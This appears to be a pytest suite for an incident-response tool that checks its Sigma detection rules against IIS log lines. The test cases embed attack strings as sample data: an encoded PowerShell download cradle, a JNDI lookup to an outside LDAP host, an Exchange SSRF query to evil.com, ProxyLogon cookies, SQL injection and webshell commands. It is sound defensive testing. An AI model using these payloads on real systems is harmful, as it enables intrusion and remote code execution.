"""Sigma rules over the request store: the shipped IIS rules fire on a case made for each and on
the generator's planted attacks (exactly those), stay quiet on normal traffic; keyword rules
search the raw line; IIS field names map to Sigma's; what cannot run is listed, located."""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from irtool.analysis.hunts import MAX_REFS, FindingDraft
from irtool.analysis.sigma import (
    SHIPPED_RULES,
    RuleError,
    RuleSet,
    SigmaRule,
    load_rules,
    run_rules,
)
from irtool.analysis.store import RequestStore
from irtool.analysis.w3c import read_paths
from tests.support import weblog
from tests.support.weblog import Manifest, write_log

HOST = "WEB01"
LINES = 40_000
SHIPPED = {
    "sigma:web_iis_aspnet_client_script_post",
    "sigma:web_iis_aspnet_deserialization_probe",
    "sigma:web_iis_config_backup_access",
    "sigma:web_iis_debug_handler_probe",
    "sigma:web_iis_encoded_powershell_query",
    "sigma:web_iis_exchange_autodiscover_ssrf",
    "sigma:web_iis_exchange_proxylogon_cookie",
    "sigma:web_iis_jndi_ognl_injection",
    "sigma:web_iis_path_traversal",
    "sigma:web_iis_regeorg_tunnel",
    "sigma:web_iis_scanner_user_agent",
    "sigma:web_iis_sql_injection_query",
    "sigma:web_iis_webshell_command_query",
    "sigma:web_iis_webshell_names",
}
# IIS's own spellings: cs(User-Agent), cs(Cookie), cs(Referer).
FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Cookie) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
PS = "IEX (New-Object Net.WebClient).DownloadString('http://10.9.9.9/a')"
PS_B64 = base64.b64encode(PS.encode("utf-16-le")).decode()


def _w3c(value: str | None) -> str:
    return weblog.w3c(value)


def line(
    client: str,
    method: str,
    stem: str,
    query: str | None = None,
    status: int = 200,
    *,
    ua: str = BROWSER,
    cookie: str | None = None,
    referer: str | None = None,
    at: str = "2024-03-01 10:00:00",
) -> str:
    values = [
        *at.split(),
        "10.0.0.10",
        method,
        stem,
        _w3c(query),
        "443",
        "-",
        client,
        _w3c(ua),
        _w3c(cookie),
        _w3c(referer),
        str(status),
        "0",
        "0",
        "15",
    ]
    return " ".join(values)


def write(path: Path, lines: list[str], fields: str = FIELDS) -> Path:
    header = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
    header += f"#Fields: {fields}\n"
    path.write_text(header + "\n".join(lines) + "\n", encoding="utf-8")
    return path


def store_of(log: Path) -> RequestStore:
    store = RequestStore(":memory:")
    store.load(read_paths([log]), host=HOST)
    return store


def rule_file(directory: Path, name: str, body: str) -> Path:
    path = directory / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(body), encoding="utf-8")
    return path


def fired(findings: list[FindingDraft]) -> set[tuple[str, str]]:
    """(rule, client) of each finding: the key is sigma:<rule id>:<client>."""
    return {(f.hunt, f.key.rsplit(":", 1)[1]) for f in findings}


@pytest.fixture(scope="module")
def shipped() -> RuleSet:
    return load_rules()


# -- the shipped rules ------------------------------------------------------------------------


def test_shipped_rules_load_complete(shipped: RuleSet) -> None:
    assert shipped.unconvertible == []
    assert shipped.skipped_other_sources == 0
    web = [r for r in shipped.rules if r.table == "requests"]
    assert {r.hunt for r in web} == SHIPPED
    assert len(web) >= 10
    for rule in web:
        assert rule.path.parent == SHIPPED_RULES / "iis"
        assert len(rule.id) == 36 and rule.id.count("-") == 4  # a UUID
        assert rule.level in ("info", "low", "medium", "high", "critical")
        assert rule.title and rule.description and rule.falsepositives
        assert any(t.startswith("attack.t") for t in rule.tags), rule.hunt
        assert rule.version == "2026-12-07"
    keyword_rules = [r for r in shipped.rules if r.keywords]
    assert {r.hunt for r in keyword_rules} == {
        "sigma:web_iis_jndi_ognl_injection",
        "sigma:web_iis_webshell_names",
    }


def test_shipped_rules_pass_pysigma_validators() -> None:
    """What Sigma's own repository checks of every rule."""
    from sigma.collection import SigmaCollection
    from sigma.validators.core import validators

    names = {"identifier_existence", "identifier_uniqueness", "duplicate_title"}
    names |= {"invalid_related_type", "date_existence", "all_of_them_condition"}
    names |= {"duplicate_tag", "duplicate_references", "escaped_wildcard"}
    from sigma.validation import SigmaValidator

    chosen = [v for name, v in validators.items() if name in names]
    assert len(chosen) >= 7  # not attacktag: it downloads ATT&CK
    paths = sorted((SHIPPED_RULES / "iis").glob("*.yml"))
    collection = SigmaCollection.load_ruleset([str(p) for p in paths])
    issues = SigmaValidator(chosen).validate_rules(iter(collection.rules))  # type: ignore[arg-type]
    assert issues == []


# One request made for each rule (each from its own client), and which rules it fires.
CASES: dict[str, tuple[str, set[str]]] = {
    "10.9.0.1": (
        line("10.9.0.1", "GET", "/app/Orders.aspx", "c=whoami /all"),
        {"sigma:web_iis_webshell_command_query"},
    ),
    "10.9.0.2": (
        line("10.9.0.2", "GET", "/uploads/ASPXSpy2014.aspx", status=404),
        {"sigma:web_iis_webshell_names"},
    ),
    "10.9.0.3": (
        line("10.9.0.3", "POST", "/upload/tunnel.aspx", "cmd=connect&target=10.0.0.5&port=3389"),
        {"sigma:web_iis_regeorg_tunnel"},
    ),
    "10.9.0.4": (
        line("10.9.0.4", "POST", "/aspnet_client/discover.aspx"),
        {"sigma:web_iis_aspnet_client_script_post"},
    ),
    "10.9.0.5": (
        line("10.9.0.5", "GET", "/download.aspx", "file=..%2f..%2fboot.ini"),
        {"sigma:web_iis_path_traversal"},
    ),
    "10.9.0.6": (
        line("10.9.0.6", "GET", "/", ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
        {"sigma:web_iis_scanner_user_agent"},
    ),
    "10.9.0.7": (
        line(
            "10.9.0.7",
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        ),
        {"sigma:web_iis_exchange_autodiscover_ssrf"},
    ),
    "10.9.0.8": (
        line(
            "10.9.0.8",
            "POST",
            "/ecp/y.js",
            cookie="X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; "
            "X-BEResource=localhost/owa/auth/logon.aspx?~3",
        ),
        {"sigma:web_iis_exchange_proxylogon_cookie"},
    ),
    "10.9.0.9": (
        line("10.9.0.9", "GET", "/Web.config.bak"),
        {"sigma:web_iis_config_backup_access"},
    ),
    "10.9.0.10": (
        line("10.9.0.10", "GET", "/", ua="${jndi:ldap://45.1.2.3:1389/a}"),
        {"sigma:web_iis_jndi_ognl_injection"},
    ),
    "10.9.0.11": (
        line("10.9.0.11", "GET", "/app/run.aspx", f"d={PS_B64}"),
        {"sigma:web_iis_encoded_powershell_query"},
    ),
    "10.9.0.12": (
        line(
            "10.9.0.12",
            "GET",
            "/default.aspx",
            "__VIEWSTATE=%2FwEPDwUKMTY3&__VIEWSTATEGENERATOR=CA0B0334",
        ),
        {"sigma:web_iis_aspnet_deserialization_probe"},
    ),
    "10.9.0.13": (
        line("10.9.0.13", "GET", "/Trace.axd"),
        {"sigma:web_iis_debug_handler_probe"},
    ),
    "10.9.0.14": (
        line("10.9.0.14", "GET", "/trace.axd", status=404),  # the rule's filter: a 404 is not
        set(),
    ),
    "10.9.0.15": (
        line("10.9.0.15", "GET", "/products.aspx", "id=1 UNION SELECT name,password FROM users--"),
        {"sigma:web_iis_sql_injection_query"},
    ),
    "10.9.0.16": (
        line("10.9.0.16", "GET", "/Search.aspx", "q=how to use cmd prompt"),  # near misses
        set(),
    ),
}


@pytest.fixture(scope="module")
def cases(
    tmp_path_factory: pytest.TempPathFactory, shipped: RuleSet
) -> Iterator[list[FindingDraft]]:
    log = write(tmp_path_factory.mktemp("cases") / "u_ex240301.log", [c[0] for c in CASES.values()])
    store = store_of(log)
    try:
        yield run_rules(store, shipped.rules)
    finally:
        store.close()


def test_every_shipped_rule_fires_on_its_case_and_only_there(cases: list[FindingDraft]) -> None:
    expected = {(rule, client) for client, (_, rules) in CASES.items() for rule in rules}
    assert fired(cases) == expected
    assert {hunt for hunt, _ in expected} == SHIPPED  # all 14 rules ran in this one test
    order = list(CASES)
    for finding in cases:
        client = finding.key.rsplit(":", 1)[1]
        assert finding.count == 1
        assert [ref[2] for ref in finding.refs] == [order.index(client) + 4]  # after 3 headers
        assert finding.first_seen == finding.last_seen == "2024-03-01T10:00:00+00:00"
        assert finding.hosts == (HOST,)
        assert client in finding.summary and "\n" not in finding.summary


@pytest.fixture(scope="module")
def attacked(
    tmp_path_factory: pytest.TempPathFactory, shipped: RuleSet
) -> Iterator[tuple[Manifest, list[FindingDraft]]]:
    log = tmp_path_factory.mktemp("attacked") / "u_ex240301.log"
    manifest = write_log(log, lines=LINES, seed=1)
    store = store_of(log)
    try:
        yield manifest, run_rules(store, shipped.rules)
    finally:
        store.close()


def test_planted_attacks_fire_exactly_these_rules(
    attacked: tuple[Manifest, list[FindingDraft]],
) -> None:
    manifest, findings = attacked
    assert fired(findings) == {
        ("sigma:web_iis_aspnet_client_script_post", weblog.WEBSHELL_CLIENT),
        ("sigma:web_iis_aspnet_client_script_post", weblog.TUNNEL_CLIENT),
        ("sigma:web_iis_regeorg_tunnel", weblog.TUNNEL_CLIENT),
        ("sigma:web_iis_scanner_user_agent", weblog.SCANNER_CLIENT),
        ("sigma:web_iis_sql_injection_query", weblog.SCANNER_CLIENT),
        ("sigma:web_iis_config_backup_access", weblog.ADMIN_CLIENT),  # its /web.config probes
    }
    by = {(f.hunt, f.key.rsplit(":", 1)[1]): f for f in findings}
    tunnel = by["sigma:web_iis_regeorg_tunnel", weblog.TUNNEL_CLIENT]
    plant = manifest["tunnel"]
    assert tunnel.count == len(plant.lines) == 300
    assert len(tunnel.refs) == MAX_REFS
    assert [r[2] for r in tunnel.refs] == plant.lines[:MAX_REFS]
    assert plant.first is not None and plant.last is not None
    assert tunnel.first_seen == plant.first.isoformat()
    assert tunnel.last_seen == plant.last.isoformat()
    assert tunnel.severity == "high" and tunnel.version == "2026-12-07"
    assert tunnel.key == f"sigma:1f3b9f57-c726-4e08-93b6-72a46cab4053:{weblog.TUNNEL_CLIENT}"
    shell = by["sigma:web_iis_aspnet_client_script_post", weblog.WEBSHELL_CLIENT]
    assert {r[2] for r in shell.refs} == set(manifest["webshell"].lines)  # the POSTs, not the GET
    assert shell.severity == "critical"
    assert shell.summary == (
        f"POST to a Script Page under aspnet_client: 24 requests from {weblog.WEBSHELL_CLIENT}"
        f" to {weblog.WEBSHELL_URI} (200)"
    )
    sqli = by["sigma:web_iis_sql_injection_query", weblog.SCANNER_CLIENT]
    assert {r[2] for r in sqli.refs} <= set(manifest["scanner"].lines)
    assert sqli.count == 80
    # sorted as run_hunts sorts: severity, then first seen
    ranks = ["critical", "high", "medium", "low", "info"]
    keys = [(ranks.index(f.severity), f.first_seen or "") for f in findings]
    assert keys == sorted(keys)


def test_normal_traffic_fires_nothing(tmp_path: Path, shipped: RuleSet) -> None:
    log = tmp_path / "u_ex240301.log"
    write_log(log, lines=LINES, seed=7, attacks=("fields", "gap"))
    store = store_of(log)
    try:
        assert run_rules(store, shipped.rules) == []
    finally:
        store.close()


# -- matching ---------------------------------------------------------------------------------


def _run(
    tmp_path: Path, rules_body: dict[str, str], lines: list[str], fields: str = FIELDS
) -> tuple[RuleSet, list[FindingDraft]]:
    rules_dir = tmp_path / "rules"
    for name, body in rules_body.items():
        rule_file(rules_dir, name, body)
    ruleset = load_rules([rules_dir], shipped=False)
    store = store_of(write(tmp_path / "u_ex.log", lines, fields))
    try:
        return ruleset, run_rules(store, ruleset.rules)
    finally:
        store.close()


RULE = """\
title: {title}
id: {id}
status: test
description: a test rule
author: irtool tests
date: 2026-12-07
logsource:
  category: webserver
detection:
{detection}
level: {level}
"""


def rule(
    detection: str,
    *,
    title: str = "Test",
    id: str = "6d3c4c1e-0000-4000-8000-000000000001",
    level: str = "low",
) -> str:
    return RULE.format(
        title=title, id=id, detection=textwrap.indent(textwrap.dedent(detection), "  "), level=level
    )


def test_keyword_rule_searches_the_raw_line_case_insensitively(tmp_path: Path) -> None:
    body = rule(
        """\
        keywords:
          - 'EvilCorp'
          - 'x*y?z'
        condition: keywords
        """
    )
    ruleset, findings = _run(
        tmp_path,
        {"kw.yml": body},
        [
            line("10.0.0.1", "GET", "/", ua="curl/8 (evilcorp edition)"),  # in the user agent
            line("10.0.0.2", "GET", "/a", "q=X123Y4Z"),  # the wildcards
            line("10.0.0.3", "GET", "/a", "q=xyz"),  # '?' is exactly one character
            line("10.0.0.4", "GET", "/evil/corp"),
        ],
    )
    assert ruleset.unconvertible == []
    assert ruleset.rules[0].keywords  # one regex over the raw line
    assert fired(findings) == {("sigma:kw", "10.0.0.1"), ("sigma:kw", "10.0.0.2")}
    assert findings[0].severity == "low"


def test_iis_and_sigma_field_names_both_map(tmp_path: Path) -> None:
    """cs-user-agent (Sigma) and cs(User-Agent) (IIS) read the same column, and cs-uri is the
    stem with its query."""
    rules = {
        "sigma_names.yml": rule(
            """\
            selection:
              cs-user-agent|contains: 'Scanner'
              cs-referer|startswith: 'http://evil'
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000002",
        ),
        "iis_names.yml": rule(
            """\
            selection:
              cs(User-Agent)|endswith: 'scanner/1.0'
              C-IP: '10.0.0.1'
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000003",
        ),
        "uri.yml": rule(
            """\
            selection:
              cs-uri:
                - '/a/b.aspx?x=1'
                - '/plain'
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000004",
        ),
        "uri_wild.yml": rule(
            """\
            selection:
              cs-uri|contains: '.aspx?x='
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000005",
        ),
    }
    ruleset, findings = _run(
        tmp_path,
        rules,
        [
            line("10.0.0.1", "GET", "/", ua="Evil Scanner/1.0", referer="http://evil.example/"),
            line("10.0.0.2", "GET", "/a/b.aspx", "x=1"),
            line("10.0.0.3", "GET", "/a/b.aspx", "x=12"),
            line("10.0.0.4", "GET", "/plain"),
            line("10.0.0.5", "GET", "/plain", "y=2"),
        ],
    )
    assert ruleset.unconvertible == []
    assert fired(findings) == {
        ("sigma:sigma_names", "10.0.0.1"),
        ("sigma:iis_names", "10.0.0.1"),
        ("sigma:uri", "10.0.0.2"),
        ("sigma:uri", "10.0.0.4"),
        ("sigma:uri_wild", "10.0.0.2"),
        ("sigma:uri_wild", "10.0.0.3"),
    }


def test_plus_is_a_space_in_w3c_values(tmp_path: Path) -> None:
    """W3C writes a value's spaces as '+' and the store decodes them: a rule written either
    way matches, in a field and in the raw line."""
    rules = {
        "field_plus.yml": rule(
            "selection:\n  cs-uri-query|contains: '=net+user'\ncondition: selection\n",
            id="6d3c4c1e-0000-4000-8000-000000000041",
        ),
        "field_space.yml": rule(
            "selection:\n  cs-uri-query|contains: '=net user'\ncondition: selection\n",
            id="6d3c4c1e-0000-4000-8000-000000000042",
        ),
        "keyword_space.yml": rule(
            "keywords:\n  - 'union select'\ncondition: keywords\n",
            id="6d3c4c1e-0000-4000-8000-000000000043",
        ),
    }
    ruleset, findings = _run(
        tmp_path,
        rules,
        [
            line("10.0.0.1", "GET", "/a", "c=net user"),  # written c=net+user
            line("10.0.0.2", "GET", "/a", "id=1 UNION SELECT 1"),
            line("10.0.0.3", "GET", "/a", "c=netuser"),
        ],
    )
    assert ruleset.unconvertible == []
    assert fired(findings) == {
        ("sigma:field_plus", "10.0.0.1"),
        ("sigma:field_space", "10.0.0.1"),
        ("sigma:keyword_space", "10.0.0.2"),
    }


def test_numbers_nulls_regex_and_custom_fields(tmp_path: Path) -> None:
    rules = {
        "num.yml": rule(
            """\
            selection:
              sc-status: 500
              time-taken|gte: 1000
              cs-uri-query: 5
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000011",
        ),
        "not_missing.yml": rule(
            """\
            selection:
              cs-uri-stem: '/n'
            filter:
              cs(X-Forwarded-For): '1.2.3.4'
            condition: selection and not filter
            """,
            id="6d3c4c1e-0000-4000-8000-000000000012",
        ),
        "re.yml": rule(
            """\
            selection:
              cs-uri-stem|re: '^/r/[0-9]{3}$'
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000013",
        ),
        "cased.yml": rule(
            """\
            selection:
              cs-uri-stem|cased: '/Cased'
            condition: selection
            """,
            id="6d3c4c1e-0000-4000-8000-000000000014",
        ),
    }
    fields = FIELDS.replace("time-taken", "time-taken cs(X-Forwarded-For)")
    lines = [
        line("10.0.0.1", "GET", "/x", "5", status=500) + " -",
        line("10.0.0.2", "GET", "/x", "6", status=500) + " -",
        line("10.0.0.3", "GET", "/n") + " -",  # no X-Forwarded-For: not the filter
        line("10.0.0.4", "GET", "/n") + " 1.2.3.4",
        line("10.0.0.5", "GET", "/r/123") + " -",
        line("10.0.0.6", "GET", "/R/123") + " -",  # Sigma's regexes are case-sensitive
        line("10.0.0.7", "GET", "/cased") + " -",
        line("10.0.0.8", "GET", "/Cased") + " -",
    ]
    lines = [ln.replace(" 15 ", " 1500 ") if "10.0.0.1 " in ln else ln for ln in lines]
    ruleset, findings = _run(tmp_path, rules, lines, fields)
    assert ruleset.unconvertible == []
    assert fired(findings) == {
        ("sigma:num", "10.0.0.1"),
        ("sigma:not_missing", "10.0.0.3"),
        ("sigma:re", "10.0.0.5"),
        ("sigma:cased", "10.0.0.8"),
    }


def test_keywords_with_fields_and_under_not(tmp_path: Path) -> None:
    """The shared keyword pass must not lose a rule's lines: a keyword ANDed with a field, and
    a keyword under NOT (whose rule is then prefiltered by its exact condition)."""
    rules = {
        "and_field.yml": rule(
            """\
            method:
              cs-method: GET
            keywords:
              - 'union select'
            filter:
              sc-status: 404
            condition: method and keywords and not filter
            """,
            id="6d3c4c1e-0000-4000-8000-000000000061",
        ),
        "not_keyword.yml": rule(
            """\
            selection:
              cs-uri-stem: '/k'
            keywords:
              - 'bot'
            condition: selection and not keywords
            """,
            id="6d3c4c1e-0000-4000-8000-000000000062",
        ),
    }
    ruleset, findings = _run(
        tmp_path,
        rules,
        [
            line("10.0.0.1", "GET", "/a", "id=1 UNION SELECT 2"),
            line("10.0.0.2", "POST", "/a", "id=1 UNION SELECT 2"),
            line("10.0.0.3", "GET", "/a", "id=1 UNION SELECT 2", status=404),
            line("10.0.0.4", "GET", "/k", ua="Googlebot/2.1"),
            line("10.0.0.5", "GET", "/k"),
        ],
    )
    assert ruleset.unconvertible == []
    by_name = {r.hunt: r for r in ruleset.rules}
    assert by_name["sigma:and_field"].keywords and not by_name["sigma:not_keyword"].keywords
    assert fired(findings) == {("sigma:and_field", "10.0.0.1"), ("sigma:not_keyword", "10.0.0.5")}


def test_long_keyword_lists_are_cut_for_re2(tmp_path: Path) -> None:
    """RE2 turns slow past a DFA budget (1,500 keywords: seconds per 100k lines): a long list
    is matched as several patterns of at most 8,000 characters."""
    words = [f"needle{n:05d}x" for n in range(2000)]
    body = rule("keywords:\n" + "".join(f"  - '{w}'\n" for w in words) + "condition: keywords\n")
    ruleset, findings = _run(
        tmp_path,
        {"many.yml": body},
        [
            line("10.0.0.1", "GET", "/a", "q=NEEDLE01999X"),
            line("10.0.0.2", "GET", "/a", "q=needle02000x"),
        ],
    )
    [many] = ruleset.rules
    assert len(many.keywords) >= 4
    assert all(len(k) <= 8000 for k in many.keywords)
    assert fired(findings) == {("sigma:many", "10.0.0.1")}


def test_hostile_field_names_are_refused(tmp_path: Path) -> None:
    rules_dir = tmp_path / "rules"
    for n, name in enumerate(["cs(X-A')--)", "x-a'] OR true OR extra['b", "c-ip OR 1=1"]):
        body = rule(
            f'selection:\n  "{name}": x\ncondition: selection\n',
            id=f"6d3c4c1e-0000-4000-8000-0000000007{n}0",
        )
        rule_file(rules_dir, f"r{n}.yml", body)
    ruleset = load_rules([rules_dir], shipped=False)
    assert ruleset.rules == []
    assert len(ruleset.unconvertible) == 3
    assert all("is not a web-server log field" in p for p in ruleset.unconvertible)
    # and an id pySigma itself trips on (an integer) is listed too, not raised
    rule_file(
        rules_dir, "int_id.yml", rule("selection:\n  c-ip: x\ncondition: selection\n", id="1")
    )
    ruleset = load_rules([rules_dir], shipped=False)
    assert ruleset.rules == []
    assert (
        ruleset.unconvertible[0]
        == f"{rules_dir / 'int_id.yml'}:2:5: id: a rule's id is a string (a UUID)"
    )


def test_hostile_values_are_matched_literally(tmp_path: Path) -> None:
    """Quotes, backslashes, LIKE's % and _, a $parameter and SQL in a value: all literal."""
    body = rule(
        """\
        selection:
          cs-uri-query:
            - "x' OR '1'='1"
            - "'); DROP TABLE requests; --"
            - 'a\\b'
            - '$name'
        like:
          cs-uri-stem: '/100%_off/*/x?'
        keywords:
          - "it's"
        condition: selection or like or keywords
        """
    )
    ruleset, findings = _run(
        tmp_path,
        {"hostile.yml": body},
        [
            line("10.0.0.1", "GET", "/a", "x' OR '1'='1"),
            line("10.0.0.2", "GET", "/a", "x"),  # what an injected OR would match
            line("10.0.0.3", "GET", "/a", "'); DROP TABLE requests; --"),
            line("10.0.0.4", "GET", "/a", "a\\b"),
            line("10.0.0.5", "GET", "/a", "ab"),
            line("10.0.0.6", "GET", "/a", "$name"),
            line("10.0.0.7", "GET", "/100%_off/z/x1"),
            line("10.0.0.8", "GET", "/100ab_off/z/x1"),  # % and _ are not wildcards here
            line("10.0.0.9", "GET", "/100%xoff/z/x1"),
            line("10.0.0.10", "GET", "/b", ua="it's me"),
        ],
    )
    assert ruleset.unconvertible == []
    assert fired(findings) == {
        ("sigma:hostile", c)
        for c in ("10.0.0.1", "10.0.0.3", "10.0.0.4", "10.0.0.6", "10.0.0.7", "10.0.0.10")
    }


# -- what does not run ------------------------------------------------------------------------


def test_unconvertible_rules_are_listed_located_and_the_others_run(tmp_path: Path) -> None:
    rules_dir = tmp_path / "rules"
    good = rule_file(
        rules_dir,
        "good.yml",
        rule("selection:\n  cs-uri-stem: '/ok'\ncondition: selection\n"),
    )
    aggregation = rule_file(
        rules_dir,
        "aggregation.yml",
        rule(
            "selection:\n  cs-method: POST\ncondition: selection | count() by c-ip > 5\n",
            id="6d3c4c1e-0000-4000-8000-000000000021",
        ),
    )
    modifier = rule_file(
        rules_dir,
        "modifier.yml",
        rule(
            "selection:\n  cs-uri-query|sortof: 'x'\ncondition: selection\n",
            id="6d3c4c1e-0000-4000-8000-000000000022",
        ),
    )
    unmapped = rule_file(
        rules_dir,
        "unmapped.yml",
        rule(
            "selection:\n  cs-method: GET\n  Image|endswith: 'w3wp.exe'\ncondition: selection\n",
            id="6d3c4c1e-0000-4000-8000-000000000023",
        ),
    )
    correlation = rule_file(
        rules_dir,
        "correlation.yml",
        """\
        title: Many POSTs (webserver)
        id: 6d3c4c1e-0000-4000-8000-000000000024
        correlation:
          type: event_count
          rules: [6d3c4c1e-0000-4000-8000-000000000001]
          group-by: [c-ip]
          timespan: 1h
          condition: {gte: 100}
        level: high
        """,
    )
    broken = rule_file(
        rules_dir,
        "broken.yml",
        "title: Broken webserver rule\nlogsource:\n  category: webserver\ndetection: [oops\n",
    )
    bad_regex = rule_file(
        rules_dir,
        "bad_regex.yml",
        rule(
            "selection:\n  cs-uri-stem|re: '(?<=a)b'\ncondition: selection\n",
            id="6d3c4c1e-0000-4000-8000-000000000025",
        ),
    )
    ruleset = load_rules([rules_dir], shipped=False)
    assert [r.path for r in ruleset.rules] == [good]
    problems = {p.split(":", 1)[0]: p for p in ruleset.unconvertible}
    assert set(problems) == {
        str(p) for p in (aggregation, modifier, unmapped, correlation, broken, bad_regex)
    }
    assert problems[str(aggregation)].startswith(f"{aggregation}:12:")  # the condition
    assert "pipe syntax" in problems[str(aggregation)]
    assert problems[str(modifier)].startswith(f"{modifier}:11:")  # the detection item
    assert "sortof" in problems[str(modifier)]
    assert problems[str(unmapped)].startswith(f"{unmapped}:12:")
    assert "field 'Image' is not a web-server log field" in problems[str(unmapped)]
    assert problems[str(correlation)].startswith(f"{correlation}:3:1: correlation rules")
    assert problems[str(broken)].startswith(f"{broken}:5:")
    assert "YAML" in problems[str(broken)]
    assert problems[str(bad_regex)].startswith(f"{bad_regex}:9:1: DuckDB refuses it: ")
    assert "invalid perl operator" in problems[str(bad_regex)]  # RE2's own words
    assert "6 rules cannot be converted (listed)" in ruleset.notes()
    store = store_of(write(tmp_path / "u_ex.log", [line("10.0.0.1", "GET", "/ok")]))
    try:
        assert fired(run_rules(store, ruleset.rules)) == {("sigma:good", "10.0.0.1")}
    finally:
        store.close()


def test_other_log_sources_and_deprecated_rules_are_skipped_and_counted(tmp_path: Path) -> None:
    rules_dir = tmp_path / "rules"
    rule_file(rules_dir, "web.yml", rule("selection:\n  cs-method: GET\ncondition: selection\n"))
    rule_file(
        rules_dir,
        "proc.yml",
        """\
        title: Whoami
        id: 6d3c4c1e-0000-4000-8000-000000000031
        logsource: {category: process_creation, product: linux}
        detection:
          selection: {Image|endswith: '\\whoami.exe'}
          condition: selection
        level: medium
        """,
    )
    rule_file(
        rules_dir,
        "sub/apache.yaml",
        """\
        title: Mentions webserver but is about a proxy
        id: 6d3c4c1e-0000-4000-8000-000000000032
        description: a proxy rule, not webserver
        logsource: {category: proxy}
        detection:
          selection: {c-uri|contains: '/x'}
          condition: selection
        level: low
        """,
    )
    rule_file(
        rules_dir,
        "old.yml",
        rule(
            "selection:\n  cs-method: PUT\ncondition: selection\n",
            id="6d3c4c1e-0000-4000-8000-000000000033",
        ).replace("status: test", "status: deprecated"),
    )
    rule_file(rules_dir, ".github/workflows/ci.yml", "name: CI\non: [push]\njobs: {}\n")
    ruleset = load_rules([rules_dir], shipped=False)
    assert [r.hunt for r in ruleset.rules] == ["sigma:web"]
    assert ruleset.skipped_other_sources == 2
    assert ruleset.skipped_status == 1
    assert ruleset.unconvertible == []
    assert ruleset.notes() == [
        "2 rules of other log sources skipped",
        "1 deprecated or unsupported rules skipped",
    ]


def test_a_user_rule_overrides_a_shipped_rule_with_its_id(tmp_path: Path, shipped: RuleSet) -> None:
    tunnel = next(r for r in shipped.rules if r.hunt == "sigma:web_iis_regeorg_tunnel")
    rule_file(
        tmp_path / "mine",
        "my_tunnel.yml",
        rule(
            "selection:\n  cs-method: POST\ncondition: selection\n", id=tunnel.id, level="critical"
        ),
    )
    ruleset = load_rules([tmp_path / "mine"])
    assert len(ruleset.rules) == len(shipped.rules)
    mine = next(r for r in ruleset.rules if r.id == tunnel.id)
    assert mine.hunt == "sigma:my_tunnel" and mine.level == "critical"


def test_ids_stems_and_levels(tmp_path: Path) -> None:
    """Two files of one directory with one id: the second is a problem; two rules with one
    file name in two directories: the second finding id is its rule id; no level: medium."""
    one, two = tmp_path / "one", tmp_path / "two"
    body = rule("selection:\n  cs-method: GET\ncondition: selection\n").replace("level: low\n", "")
    rule_file(one, "a.yml", body)
    dup = rule_file(one, "b.yml", body)
    other = "6d3c4c1e-0000-4000-8000-000000000051"
    rule_file(two, "a.yml", rule("selection:\n  cs-method: PUT\ncondition: selection\n", id=other))
    ruleset = load_rules([one, two], shipped=False)
    assert [(r.hunt, r.level) for r in ruleset.rules] == [
        ("sigma:a", "medium"),
        (f"sigma:{other}", "low"),
    ]
    assert ruleset.unconvertible == [
        f"{dup}:2:5: rule id 6d3c4c1e-0000-4000-8000-000000000001 is also used by {one / 'a.yml'}"
    ]


def test_a_rule_failing_while_running_is_named(tmp_path: Path) -> None:
    store = store_of(write(tmp_path / "u_ex.log", [line("10.0.0.1", "GET", "/a")]))
    bad = SigmaRule(
        id="x",
        hunt="sigma:bad",
        title="bad",
        level="low",
        version="1",
        path=Path("bad.yml"),
        query="CAST(cs_uri_stem AS INTEGER) = 1",
    )
    try:
        with pytest.raises(RuleError, match=r"Sigma rule sigma:bad \(bad.yml\) failed"):
            run_rules(store, [_dummy(), bad])
    finally:
        store.close()


def test_a_missing_directory_is_a_located_problem(tmp_path: Path) -> None:
    ruleset = load_rules([tmp_path / "nope"], shipped=False)
    assert ruleset.rules == []
    assert ruleset.unconvertible == [f"{tmp_path / 'nope'}:1:1: no such directory of Sigma rules"]


def test_no_rules_no_findings(tmp_path: Path) -> None:
    store = store_of(write(tmp_path / "u_ex.log", [line("10.0.0.1", "GET", "/")]))
    try:
        assert run_rules(store, []) == []
        assert run_rules(store, [_dummy()]) == []
    finally:
        store.close()


def _dummy() -> SigmaRule:
    return SigmaRule(
        id="x",
        hunt="sigma:x",
        title="x",
        level="low",
        version="1",
        path=Path("x.yml"),
        query="false",
    )
